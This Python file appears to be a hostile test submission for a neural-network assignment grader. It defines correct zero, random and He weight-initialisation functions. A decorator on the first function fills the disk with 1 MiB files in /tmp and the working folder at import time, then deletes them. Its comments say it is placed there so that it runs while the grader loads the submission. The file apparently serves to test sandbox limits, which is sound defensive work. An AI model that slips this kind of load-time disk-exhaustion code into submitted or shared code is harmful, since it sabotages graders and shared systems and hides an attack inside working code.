"""Hostile: at import, fills the disk: one file grown until the kernel refuses (RLIMIT_FSIZE, 16 MiB), then
1 MiB files until the file system is full (the sandbox's private /tmp holds 64 MiB), and tries its own folder
(read-only). Then it deletes what it wrote (so that a run at a weaker level leaves no litter) and defines
correct functions."""
import os

import numpy as np

CHUNK = b"x" * (1024 * 1024)
MAX_BYTES = 512 * 1024 * 1024
written = []


def _fill(path, limit):
    total = 0
    with open(path, "wb") as f:
        written.append(path)
        while total < limit:
            f.write(CHUNK)
            f.flush()
            total += len(CHUNK)
    return total


def _fill_disk():
    total = 0
    for target in ("/tmp/nn-grader-fill-big", os.path.join(os.getcwd(), "nn-grader-fill-big")):
        try:
            total += _fill(target, MAX_BYTES)
        except OSError as error:
            print("%s: %s" % (target, error.strerror))
    for i in range(MAX_BYTES // len(CHUNK)):
        try:
            total += _fill("/tmp/nn-grader-fill-%d" % i, len(CHUNK))
        except OSError as error:
            print("small files: %s after %d files" % (error.strerror, i))
            break
    for path in written:
        try:
            os.remove(path)
        except OSError:
            pass


# The grader runs only what the graded functions need: the attack runs in a decorator of one of them, so
# that it still happens while the submission is being loaded.
def _at_load(function):
    _fill_disk()
    return function


@_at_load
def initialize_parameters_zeros(layers_dims):
    parameters = {}
    L = len(layers_dims)
    for l in range(1, L):
        parameters['W' + str(l)] = np.zeros((layers_dims[l], layers_dims[l - 1]))
        parameters['b' + str(l)] = np.zeros((layers_dims[l], 1))
    return parameters


def initialize_parameters_random(layers_dims):
    np.random.seed(3)
    parameters = {}
    L = len(layers_dims)
    for l in range(1, L):
        parameters['W' + str(l)] = np.random.randn(layers_dims[l], layers_dims[l - 1]) * 10
        parameters['b' + str(l)] = np.zeros((layers_dims[l], 1))
    return parameters


def initialize_parameters_he(layers_dims):
    np.random.seed(3)
    parameters = {}
    L = len(layers_dims) - 1
    for l in range(1, L + 1):
        parameters['W' + str(l)] = np.random.randn(layers_dims[l], layers_dims[l - 1]) * np.sqrt(2 / layers_dims[l - 1])
        parameters['b' + str(l)] = np.zeros((layers_dims[l], 1))
    return parameters
